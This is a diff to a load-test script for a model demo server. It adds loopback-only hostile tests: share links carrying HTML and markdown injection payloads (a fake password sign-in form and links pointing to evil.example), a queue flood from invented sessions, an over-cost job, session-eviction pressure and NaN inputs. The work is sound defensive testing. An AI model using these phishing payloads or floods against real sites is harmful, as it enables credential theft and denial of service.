@@ -40,6 +40,28 @@ within 5% of the baseline), and the hardware. Printed as JSON and written to --j
 assets/load/hostile.json).
 
     OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile
+
+Then the round-four attacks of issue 37 (under "round_four"; `--hostile --round-four` runs only these
+and keeps the file's other keys; `--tiny` is a dry run with tiny counts). Loopback addresses only:
+the script is 127.0.0.1, a visitor 127.0.0.2 (the server reads real peer addresses here):
+  share links      four hostile links (a parameter name that is a <form> with a password input, a
+                   position:fixed anchor, `[text](url)`, HTML in a value) through the page's own load
+                   event: '<form', '<input', 'href=' in the status line it returns, the elements a
+                   CommonMark renderer with HTML on builds from it (target 0), and the page's CSP,
+                   nosniff and Referrer-Policy headers
+  invented sessions  16 made-up session ids with their heartbeats open (no page token) push jobs (16 x
+                   20 at most) while a visitor who loaded the page pushes one: its first message
+                   against alone (target: within the running job plus one, 2 x the job + its first
+                   message), the script's jobs admitted and refused
+  job cost         the issue's batch 8 x (768 + 256) lens job: refused, how fast, its message; then the
+                   costliest admitted job of three kinds (256 tokens; batch 8; the lens), timed
+  step mode        a visitor's step session, 6 step sessions of one script (500-word prompts, the
+                   lens), the visitor's next step: "step", not a restarted "prefill"; the server's RSS
+                   before, at peak and 10 s after
+  bad numbers      a NaN seed on the page's generate event, order="random" on the API: status and the
+                   parameter named
+
+    OMP_NUM_THREADS=1 HF_HUB_OFFLINE=1 python scripts/load_test.py --hostile --round-four
 """
 
 from __future__ import annotations
@@ -50,12 +72,14 @@ import concurrent.futures
 import json
 import os
 import random
+import re
 import socket
 import statistics
 import subprocess
 import sys
 import threading
 import time
+from html.parser import HTMLParser
 from pathlib import Path
 from typing import IO
 
@@ -642,6 +666,416 @@ def preview_storm(url: str, observations: Observations, loops: int = 4) -> dict:
             "first_message_s_alone": alone["first_message_s"], "first_message_s_during": during["first_message_s"]}
 
 
+
+# --- round four (issue 37): share links, invented sessions, job cost, step mode, NaN -------------
+HOSTILE_LINKS = {  # the issue's share links, each an unknown parameter NAME or a bad VALUE
+    "form_as_name": {'<form action="http://evil.example/s"><p>Your session expired. Sign in</p>'
+                     '<input type="password" name="pw"><button>Sign in</button></form>': "1"},
+    "fixed_anchor_as_name": {'<a href="http://evil.example" style="position:fixed;inset:0;background:red">'
+                             'continue</a>': "1"},
+    "markdown_link_as_name": {"[Sign in again](http://evil.example/login)": "1"},
+    "html_in_a_value": {"decay": '<b>x</b><a href="http://evil.example">here</a><input type="password">'},
+}
+MARKUP = ("<form", "<input", "href=")
+SECURITY_HEADERS = ("content-security-policy", "x-content-type-options", "referrer-policy")
+PAGE_COOKIE = "skipdecode_page"  # app/page_tokens.py: the page token a page load sets
+PROMPT_TEMPLATE_TOKENS = 31  # the chat template around a prompt of one-token words (1500 words: 1531 tokens)
+COUNTING = " Now count from 1 to 500, one number after another, separated by commas."
+COUNTING_TOKENS = 20  # about (the tokenizer is the server's): the cost probe keeps 10 units of margin
+
+
+def markup_counts(text: str) -> dict[str, int]:
+    """How often each tag or attribute that could draw a form or a link occurs in ``text``."""
+    lowered = text.lower()
+    return {needle: lowered.count(needle) for needle in MARKUP}
+
+
+class ElementCounter(HTMLParser):
+    """The elements and attributes an HTML fragment really has (escaped text is text, not a tag)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: collections.Counter[str] = collections.Counter()
+        self.attributes: collections.Counter[str] = collections.Counter()
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self.tags[tag] += 1
+        self.attributes.update(name for name, _ in attrs)
+
+
+def rendered_elements(fragment: str) -> dict:
+    """What a browser would build from ``fragment``: its tags, and the forms, inputs, links and
+    styled elements among them."""
+    counter = ElementCounter()
+    counter.feed(fragment)
+    counter.close()
+    return {"tags": sorted(counter.tags), "form": counter.tags["form"], "input": counter.tags["input"],
+            "a": counter.tags["a"], "href": counter.attributes["href"], "style": counter.attributes["style"]}
+
+
+def detail_text(text: str) -> str:
+    """A refusal's message; a list of gradio validation items reads as "parameter: message"."""
+    try:
+        detail = json.loads(text).get("detail")
+    except (ValueError, AttributeError):
+        return message_of(text)
+    if isinstance(detail, list):
+        return "; ".join(f"{item.get('parameter_name')}: {item.get('message')}" for item in detail
+                         if isinstance(item, dict))
+    return message_of(text)
+
+
+def page_event(url: str, api_name: str) -> tuple[int, list[str], list]:
+    """(fn_index, setting names, values) of one page event from /config: each input's value on a
+    fresh page (a control's elem_id is "setting-<name>")."""
+    config = httpx.get(url.rstrip("/") + "/config", timeout=30).json()
+    dependency = next(d for d in config["dependencies"] if d.get("api_name") == api_name)
+    components = {c["id"]: c for c in config["components"]}
+    names = [(components[i].get("props", {}).get("elem_id") or "").removeprefix("setting-").replace("-", "_")
+             for i in dependency["inputs"]]
+    values = [components[i].get("props", {}).get("value") for i in dependency["inputs"]]
+    return dependency["id"], names, values
+
+
+def with_settings(names: list[str], values: list, **overrides) -> list:
+    return [overrides.get(name, value) for name, value in zip(names, values)]
+
+
+def rendered_markdown(text: str) -> str:
+    """The status line as a CommonMark renderer with raw HTML on draws it (gradio's Markdown keeps HTML)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark", {"html": True}).render(text)
+
+
+def hostile_link(url: str, fn_index: int, name: str, query: dict) -> dict:
+    """One share link: the page's own load event (run/predict with the page's query, as the page's
+    script sends it) gives the status line; the page itself gives the headers."""
+    base = url.rstrip("/")
+    with httpx.Client(timeout=30) as http:
+        page = http.get(base + "/", params=query)
+        started = time.time()
+        response = http.post(base + "/gradio_api/run/predict", params=query,
+                             json={"data": [], "fn_index": fn_index, "session_hash": f"link{len(name)}"})
+        seconds = time.time() - started
+    status = response.json().get("data", [""])[-1] if response.status_code == 200 else response.text
+    status = status if isinstance(status, str) else json.dumps(status)
+    return {"status_code": response.status_code, "seconds": round(seconds, 3), "status_line": status[:300],
+            "markup_in_status_text": markup_counts(status), "rendered_status": rendered_elements(rendered_markdown(status)),
+            "page_status": page.status_code,
+            "page_headers": {h: page.headers.get(h) for h in SECURITY_HEADERS},
+            "api_headers": {h: response.headers.get(h) for h in SECURITY_HEADERS[1:]}}
+
+
+def hostile_links(url: str) -> dict:
+    """Every hostile link of the issue: no tag or link of it survives, every response carries the headers."""
+    fn_index, _, _ = page_event(url, "ui_from_link")
+    links = {name: hostile_link(url, fn_index, name, query) for name, query in HOSTILE_LINKS.items()}
+    survived = sum(link["markup_in_status_text"][needle] for link in links.values() for needle in MARKUP) + sum(
+        link["rendered_status"][kind] for link in links.values() for kind in ("form", "input", "a", "href", "style"))
+    headers_missing = [name for name, link in links.items() for h, v in link["page_headers"].items() if not v]
+    return {"links": links, "tags_or_links_surviving": survived, "pages_missing_a_header": headers_missing}
+
+
+class StreamReaders:
+    """Reads SSE streams in daemon threads until stopped (bounded: each read ends with its stream,
+    at stop, or at its client's read timeout)."""
+
+    def __init__(self) -> None:
+        self.stop = threading.Event()
+
+    def _read(self, http: httpx.Client, path: str) -> None:
+        try:
+            with http.stream("GET", path) as response:
+                for _ in response.iter_lines():
+                    if self.stop.is_set():
+                        return
+        except httpx.HTTPError:
+            return
+
+    def start(self, http: httpx.Client, path: str) -> None:
+        threading.Thread(target=self._read, args=(http, path), daemon=True).start()
+
+
+def first_event_seconds(http: httpx.Client, session: str, pushed: float, timeout: float) -> tuple[float | None, str]:
+    """Seconds from ``pushed`` to the job's first message (or its end) on queue/data, and that message."""
+    with http.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as response:
+        for line in response.iter_lines():
+            if '"process_generating"' in line or '"process_completed"' in line:
+                return round(time.time() - pushed, 2), line[:300]
+            if time.time() - pushed > timeout:
+                break
+    return None, ""
+
+
+def loopback_client(url: str, address: str, read_s: float = 120) -> httpx.Client:
+    """An HTTP client whose connections come from ``address`` (a 127.x.y.z loopback address)."""
+    if not address.startswith("127."):
+        raise ValueError("loopback only")
+    return httpx.Client(base_url=url.rstrip("/"), timeout=httpx.Timeout(30, read=read_s),
+                        limits=httpx.Limits(max_connections=200),
+                        transport=httpx.HTTPTransport(local_address=address))
+
+
+def page_visitor_job(url: str, address: str, session: str, data: list, fn_index: int) -> dict:
+    """A visitor who loads the page (its page token), opens the heartbeat, then pushes one job: the
+    wait from the push to its first message."""
+    readers = StreamReaders()
+    with loopback_client(url, address) as visitor:
+        loaded = visitor.get("/")
+        readers.start(visitor, f"/gradio_api/heartbeat/{session}")
+        time.sleep(1.0)  # the heartbeat is open, as a page's is before its first click
+        pushed = time.time()
+        joined = visitor.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "session_hash": session})
+        waited, first = (first_event_seconds(visitor, session, pushed, 120) if joined.status_code == 200
+                         else (None, joined.text[:300]))
+        total = round(time.time() - pushed, 2)
+        readers.stop.set()
+    return {"page_token_set": PAGE_COOKIE in loaded.cookies, "joined": joined.status_code,
+            "first_message_s": waited, "until_stream_read_s": total, "first_event": first[:120]}
+
+
+def invented_sessions(url: str, sessions: int, rounds: int, visitor_job: dict) -> dict:
+    """The issue's script on 127.0.0.1: ``sessions`` invented session ids, each with its heartbeat
+    held open (no page load, so no page token), pushing jobs from all of them (``rounds`` rounds,
+    reading every admitted job's stream) while a visitor on 127.0.0.2 who loaded the page pushes
+    one job. Against the same visitor alone."""
+    with httpx.Client(base_url=url, timeout=30) as http:
+        fn_index = generate_fn_index(http)
+    data = api_values(url, **visitor_job)
+    alone = page_visitor_job(url, "127.0.0.2", "visitoralone", data, fn_index)
+    readers, tally = StreamReaders(), collections.Counter()
+    names = [f"invented{i:02d}" for i in range(sessions)]
+    script = loopback_client(url, "127.0.0.1")
+    for name in names:
+        readers.start(script, f"/gradio_api/heartbeat/{name}")
+    time.sleep(1.0)
+    started = time.time()
+
+    def flood() -> None:
+        for _ in range(rounds):  # bounded: sessions x rounds pushes, and it stops once the visitor is served
+            for name in names:
+                if readers.stop.is_set():
+                    return
+                response = script.post("/gradio_api/queue/join",
+                                       json={"data": data, "fn_index": fn_index, "session_hash": name})
+                tally[response.status_code] += 1
+                if response.status_code == 200:
+                    readers.start(script, f"/gradio_api/queue/data?session_hash={name}")
+            time.sleep(0.05)
+
+    flooder = threading.Thread(target=flood, daemon=True)
+    flooder.start()
+    try:
+        time.sleep(max(3.0, 2 * alone["until_stream_read_s"]))  # the flood is in full swing
+        during = page_visitor_job(url, "127.0.0.2", "visitorflood", data, fn_index)
+    finally:
+        readers.stop.set()
+        flooder.join(60)
+        script.close()
+    flood_s = round(time.time() - started, 1)
+    time.sleep(3.0)  # the closed streams cancel the flood's jobs
+    bound = round(2 * alone["until_stream_read_s"] + (alone["first_message_s"] or 0), 1)
+    return {"script_sessions": sessions, "script_rounds_max": rounds, "job": visitor_job,
+            "script_admitted": tally[200], "script_refused": sum(tally.values()) - tally[200],
+            "script_by_status": {str(k): v for k, v in sorted(tally.items())}, "flood_seconds": flood_s,
+            "visitor_alone": alone, "visitor_during_script": during,
+            "bound_s": bound, "visitor_within_bound": during["first_message_s"] is not None
+            and during["first_message_s"] <= bound}
+
+
+def job_cost_units(batch: int, prompt_tokens: int, new_tokens: int, lens: bool) -> int:
+    if str(ROOT) not in sys.path:
+        sys.path.insert(0, str(ROOT))
+    from app.job_cost import job_cost  # the server's own formula (a pure function)
+
+    return job_cost(batch, prompt_tokens, new_tokens, lens)
+
+
+def words_for_cost(batch: int, new_tokens: int, lens: bool, limit: int, template: int = PROMPT_TEMPLATE_TOKENS) -> int:
+    """The most one-token words a prompt may have for the job to cost at most ``limit`` units
+    (the chat template adds ``template`` tokens); 0 when even an empty prompt is over."""
+    words = 0
+    while words < 4000 and job_cost_units(batch, words + 1 + template, new_tokens, lens) <= limit:
+        words += 1
+    return words
+
+
+WORST_JOBS = (dict(batch_size=1, max_new_tokens=256, lens=False),  # the longest run
+              dict(batch_size=8, max_new_tokens=48, lens=False),  # the widest batch
+              dict(batch_size=1, max_new_tokens=160, lens=True))  # the lens's readings
+ISSUE_JOB_WORDS = 738  # + the chat template: the server counts a 768-token prompt
+TINY_JOBS = (dict(batch_size=1, max_new_tokens=8, lens=False),)  # --tiny: a dry run of the probe
+
+
+def timed_api_job(url: str, settings: dict, words: int) -> dict:
+    """One job through gradio_client (a page-token-less API client), timed from submit to its end."""
+    prompt = long_prompt("sea", words) + COUNTING if words else COUNTING.strip()
+    client = Client(url, verbose=False)
+    started = time.time()
+    try:
+        final = client.predict(prompt=prompt, target_speedup=2.0, temperature=0.0, **settings, api_name="/generate")
+    except Exception as error:  # noqa: BLE001 (a refusal is recorded: the job was not admitted)
+        return {**settings, "prompt_words": words, "admitted": False, "message": str(error)[:300],
+                "seconds": round(time.time() - started, 2)}
+    return {**settings, "prompt_words": words, "admitted": True, "seconds": round(time.time() - started, 2),
+            "decode_steps": len(final.get("layers_per_step") or []) + 1}
+
+
+def costliest_admitted(url: str, settings: dict, limit: int, tries: int = 3) -> dict:
+    """The job of this kind with the longest prompt that fits the cap (10 units of margin for the
+    token estimate), timed; a refused one is retried with 20% fewer words (``tries`` at most)."""
+    words = words_for_cost(settings["batch_size"], settings["max_new_tokens"], settings["lens"], limit - 10,
+                           PROMPT_TEMPLATE_TOKENS + COUNTING_TOKENS)
+    for _ in range(tries):
+        job = timed_api_job(url, settings, words)
+        if job["admitted"] or words == 0:
+            break
+        words = int(words * 0.8)
+    prompt_tokens = job["prompt_words"] + PROMPT_TEMPLATE_TOKENS + COUNTING_TOKENS
+    return {**job, "cost_units_about": job_cost_units(job["batch_size"], prompt_tokens, job["max_new_tokens"], job["lens"])}
+
+
+def job_cost_probe(url: str, server_limit: int, limit: int, worst: tuple[dict, ...]) -> dict:
+    """The issue's batch 8 x (768 + 256) lens job: refused at once, how fast and with what message;
+    then the costliest admitted job of each kind in ``worst`` (prompts sized to the cap), timed."""
+    issue_job = dict(prompt=long_prompt("sea", ISSUE_JOB_WORDS), batch_size=8, max_new_tokens=256, lens=True)
+    started = time.time()
+    rest = httpx.post(url.rstrip("/") + "/gradio_api/call/generate", json={"data": api_values(url, **issue_job)}, timeout=30)
+    rest_s = time.time() - started
+    started = time.time()
+    try:
+        Client(url, verbose=False).predict(**issue_job, api_name="/generate")
+        client_message, admitted = "", True
+    except Exception as error:  # noqa: BLE001 (the expected refusal)
+        client_message, admitted = str(error), False
+    client_s = time.time() - started
+    admitted_jobs = [costliest_admitted(url, settings, limit) for settings in worst]
+    ran = [job for job in admitted_jobs if job["admitted"]]
+    return {"issue_job": {"batch_size": 8, "prompt_tokens": 768, "max_new_tokens": 256, "lens": True,
+                          "cost_units": job_cost_units(8, 768, 256, True), "server_limit_units": server_limit},
+            "rest_status": rest.status_code, "rest_refused_in_s": round(rest_s, 3),
+            "rest_message": detail_text(rest.text)[:400], "admitted_jobs_sized_to_units": limit, "gradio_client_refused": not admitted,
+            "gradio_client_refused_in_s": round(client_s, 2), "gradio_client_message": client_message[:300],
+            "costliest_admitted_jobs": admitted_jobs,
+            "worst_admitted_wall_s": max((job["seconds"] for job in ran), default=None)}
+
+
+def step_once(http: httpx.Client, session: str, fn_index: int, data: list, timeout: float = 120) -> str:
+    """One press of Step in ``session``: the status line it answers (or the refusal)."""
+    joined = http.post("/gradio_api/queue/join", json={"data": data, "fn_index": fn_index, "session_hash": session})
+    if joined.status_code != 200:
+        return f"refused {joined.status_code}: {message_of(joined.text)[:200]}"
+    started = time.time()
+    with http.stream("GET", f"/gradio_api/queue/data?session_hash={session}") as response:
+        for line in response.iter_lines():
+            if '"process_completed"' in line:
+                event = json.loads(line.removeprefix("data:").strip())
+                output = event.get("output", {})
+                data_out = output.get("data") or [output.get("error") or ""]
+                return str(data_out[0])[:300]
+            if time.time() - started > timeout:
+                break
+    return "no answer"
+
+
+class MemorySampler:
+    """The server's RSS every 0.25 s in a daemon thread (bounded by ``limit_s``); the peak."""
+
+    def __init__(self, process: psutil.Process | None, limit_s: float = 600) -> None:
+        self.process, self.peak, self.stop = process, rss_mb(process), threading.Event()
+        self.thread = threading.Thread(target=self._run, args=(limit_s,), daemon=True)
+        self.thread.start()
+
+    def _run(self, limit_s: float) -> None:
+        deadline = time.time() + limit_s
+        while self.process and not self.stop.is_set() and time.time() < deadline:
+            self.peak = max(self.peak or 0, rss_mb(self.process) or 0)
+            time.sleep(0.25)
+
+    def finish(self) -> float | None:
+        self.stop.set()
+        self.thread.join(5)
+        return self.peak
+
+
+def step_mode_eviction(url: str, process: psutil.Process | None, script_sessions: int, prompt_words: int) -> dict:
+    """A visitor on 127.0.0.2 steps once, then one script on 127.0.0.1 opens ``script_sessions`` step
+    sessions (long prompts, lens on), then the visitor steps again: a "prefill" answer would mean its
+    session was evicted and restarted. The server's RSS before, at peak and 10 s after."""
+    fn_index, names, values = page_event(url, "ui_step")
+    visitor_data = with_settings(names, values, prompt=PROMPTS[0], max_new_tokens=48)
+    script_data = with_settings(names, values, prompt=long_prompt("sky", prompt_words) + COUNTING, max_new_tokens=48,
+                                lens=True)
+    before = rss_mb(process)
+    sampler = MemorySampler(process)
+    started = time.time()
+    with loopback_client(url, "127.0.0.2") as visitor, loopback_client(url, "127.0.0.1") as script:
+        first = step_once(visitor, "stepvisitor", fn_index, visitor_data)
+        script_answers = [step_once(script, f"stepscript{i:02d}", fn_index, script_data) for i in range(script_sessions)]
+        second = step_once(visitor, "stepvisitor", fn_index, visitor_data)
+    seconds = round(time.time() - started, 1)
+    peak = sampler.finish()
+    time.sleep(10)
+    return {"script_sessions": script_sessions, "script_prompt_words": prompt_words, "script_lens": True,
+            "visitor_first_step": first, "visitor_second_step": second,
+            "visitor_session_survived": second.startswith("step "),
+            "script_steps_answered": sum(a.startswith("prefill") for a in script_answers),
+            "script_answers": [a[:100] for a in script_answers], "seconds": seconds,
+            "rss_mb_before": before, "rss_mb_peak": peak, "rss_mb_10s_after": rss_mb(process)}
+
+
+def bad_numbers(url: str) -> dict:
+    """A NaN seed on the page's own generate event, and order="random" on the API: status and the
+    parameter each refusal names."""
+    fn_index, names, values = page_event(url, "ui_generate")
+    body = json.dumps({"data": with_settings(names, values, seed=float("nan")), "fn_index": fn_index,
+                       "session_hash": "nanseed01"})  # NaN is not JSON: as a hostile client sends it
+    nan = httpx.post(url.rstrip("/") + "/gradio_api/queue/join", content=body,
+                     headers={"content-type": "application/json"}, timeout=30)
+    order = httpx.post(url.rstrip("/") + "/gradio_api/call/generate",
+                       json={"data": api_values(url, **VICTIM_JOB, order="random")}, timeout=30)
+    detail = order.json().get("detail") if order.headers.get("content-type", "").startswith("application/json") else None
+    named = [item.get("parameter_name") for item in detail] if isinstance(detail, list) else None
+    nan_message = message_of(nan.text)
+    found = re.search(r"\((\w+)\) must be", nan_message)
+    return {"nan_seed": {"status": nan.status_code, "parameter_named": found.group(1) if found else None,
+                         "message": nan_message[:200]},
+            "order_random": {"status": order.status_code, "parameter_named": named, "message": order.text[:300]}}
+
+
+def cpu_flags() -> list[str]:
+    flags = next((line.split(":", 1)[1].split() for line in Path("/proc/cpuinfo").read_text().splitlines()
+                  if line.startswith("flags")), [])
+    return sorted({"avx2", "avx512f", "avx512_vnni"} & set(flags))
+
+
+def round_four(url: str, process: psutil.Process | None, args: argparse.Namespace) -> dict:
+    """The round-four attacks of issue 37, each through the launched app on loopback."""
+    tiny = args.tiny
+    load_before = [round(x, 2) for x in os.getloadavg()]
+    started = time.time()
+    report = {
+        "command": command_line(), "date": time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()),
+        "hardware": {**hardware(), "cpu_flags": cpu_flags()},
+        "share_links": hostile_links(url),
+        "invented_heartbeat_sessions": invented_sessions(url, 2 if tiny else 16, 2 if tiny else 20,
+                                                         dict(prompt=PROMPTS[0], target_speedup=2.0,
+                                                              max_new_tokens=8 if tiny else 32)),
+        "job_cost": job_cost_probe(url, args.max_job_cost, 60 if tiny else args.max_job_cost,
+                                   TINY_JOBS if tiny else WORST_JOBS),
+        "step_mode": step_mode_eviction(url, process, 2 if tiny else 6, 20 if tiny else 500),
+        "bad_numbers": bad_numbers(url),
+    }
+    load_after = [round(x, 2) for x in os.getloadavg()]
+    report["seconds"] = round(time.time() - started, 1)
+    report["load_average"] = {"before_1_5_15_min": load_before, "after_1_5_15_min": load_after}
+    if max(load_before[0], load_after[0]) > 1.5:
+        report["note"] = ("the machine was shared with a test suite and a training job during this run "
+                          "(load average above 1.5): wall times are slower than on a quiet machine")
+    return report
+
+
 def command_line() -> str:
     threads = os.environ.get("OMP_NUM_THREADS")
     prefix = f"OMP_NUM_THREADS={threads} " if threads else ""
@@ -684,10 +1118,53 @@ def run_hostile(url: str, server: subprocess.Popen | None, args: argparse.Namesp
         "server_stderr": log.report(),
         "seconds": round(time.time() - started, 1),
     }
-    report["targets_missed"] = missed_targets(report)
+    report["round_four"] = round_four(url, process, args)
+    report["targets_missed"] = missed_targets(report) + missed_round_four(report["round_four"])
     print(json.dumps(report, indent=2))
     Path(args.json or HOSTILE_JSON).write_text(json.dumps(report, indent=2) + "\n")
     return 1 if report["targets_missed"] else 0
+
+
+def run_round_four(url: str, server: subprocess.Popen | None, args: argparse.Namespace) -> int:
+    """Only the round-four attacks; their figures go under "round_four" of the JSON, its other keys kept
+    (--tiny: a dry run with tiny counts, written only where --json says)."""
+    process = psutil.Process(server.pid) if server else None
+    log = ServerLog(server)
+    Client(url, verbose=False).predict(prompt=PROMPTS[0], max_new_tokens=args.max_new_tokens, api_name="/generate")
+    time.sleep(2)
+    report = round_four(url, process, args)
+    report["server_stderr"] = log.report()
+    report["targets_missed"] = missed_round_four(report)
+    print(json.dumps(report, indent=2))
+    path = Path(args.json) if args.json else (None if args.tiny else HOSTILE_JSON)
+    if path is not None:
+        existing = json.loads(path.read_text()) if path.exists() else {}
+        path.write_text(json.dumps(existing | {"round_four": report}, indent=2) + "\n")
+    return 1 if report["targets_missed"] else 0
+
+
+def missed_round_four(report: dict) -> list[str]:
+    """The round-four targets this run missed, in words."""
+    missed = []
+    links = report["share_links"]
+    if links["tags_or_links_surviving"] or links["pages_missing_a_header"]:
+        missed.append(f"share links: {links['tags_or_links_surviving']} tags/links survived, "
+                      f"headers missing on {links['pages_missing_a_header']}")
+    sessions = report["invented_heartbeat_sessions"]
+    if not sessions["visitor_within_bound"]:
+        missed.append(f"the visitor waited {sessions['visitor_during_script']['first_message_s']} s beside the invented "
+                      f"sessions (bound {sessions['bound_s']} s)")
+    cost = report["job_cost"]
+    if not cost["gradio_client_refused"] or cost["rest_status"] != 422:
+        missed.append(f"the issue's job was not refused (REST {cost['rest_status']})")
+    if not report["step_mode"]["visitor_session_survived"]:
+        missed.append(f"the visitor's step session did not survive: {report['step_mode']['visitor_second_step']!r}")
+    bad = report["bad_numbers"]
+    if bad["nan_seed"]["status"] != 422 or bad["nan_seed"]["parameter_named"] != "seed":
+        missed.append(f"NaN seed: {bad['nan_seed']}")
+    if bad["order_random"]["status"] != 422 or bad["order_random"]["parameter_named"] != ["order"]:
+        missed.append(f"order=random: {bad['order_random']['status']} naming {bad['order_random']['parameter_named']}")
+    return missed
 
 
 def missed_targets(report: dict) -> list[str]:
@@ -724,11 +1201,19 @@ def main() -> int:
                                                      "assets/load/hostile.json)")
     parser.add_argument("--hostile", action="store_true", help="run the bounded hostile mix instead")
     parser.add_argument("--prompt-words", type=int, default=1500, help="--hostile: words in a long prompt")
+    parser.add_argument("--round-four", action="store_true",
+                        help="--hostile: only the round-four attacks (issue 37), written under \"round_four\"")
+    parser.add_argument("--tiny", action="store_true", help="--round-four: a dry run with tiny counts (writes "
+                                                            "only to --json)")
+    parser.add_argument("--max-job-cost", type=int, default=int(os.environ.get("SKIPDECODE_MAX_JOB_COST", "400")),
+                        help="--hostile: the server's job cost cap (the costliest admitted jobs are sized to it)")
     parser.add_argument("--queue-size", type=int, default=int(os.environ.get("SKIPDECODE_QUEUE_SIZE", "32")),
                         help="--hostile: the server's queue size (for the queue share)")
     args = parser.parse_args()
     if not 1 <= args.clients <= 64 or not 1 <= args.duration <= 1800:
         raise SystemExit("--clients must be 1..64 and --duration 1..1800 s (the test is bounded)")
+    if (args.round_four or args.tiny) and not args.hostile:
+        raise SystemExit("--round-four and --tiny go with --hostile")
     if not 1 <= args.prompt_words <= 1900:
         raise SystemExit("--prompt-words must be 1..1900 (the app's prompt limits: 8000 characters, 2048 tokens)")
 
@@ -742,6 +1227,8 @@ def main() -> int:
         raise SystemExit("loopback only: --url must be http://127.0.0.1:... or http://localhost:...")
     process = psutil.Process(server.pid) if server else None
     try:
+        if args.hostile and args.round_four:
+            return run_round_four(url, server, args)
         return run_hostile(url, server, args) if args.hostile else run_normal(url, process, args)
     finally:
         if server is not None:
